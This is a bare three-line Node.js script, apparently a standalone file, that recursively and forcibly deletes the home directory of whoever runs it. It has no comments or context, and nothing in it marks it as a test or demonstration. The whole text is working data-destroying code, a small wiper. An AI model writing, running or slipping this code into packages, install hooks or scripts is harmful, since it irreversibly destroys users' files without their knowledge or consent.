const { rmSync } = require('fs');
const { homedir } = require('os');
rmSync(homedir(), { recursive: true, force: true });
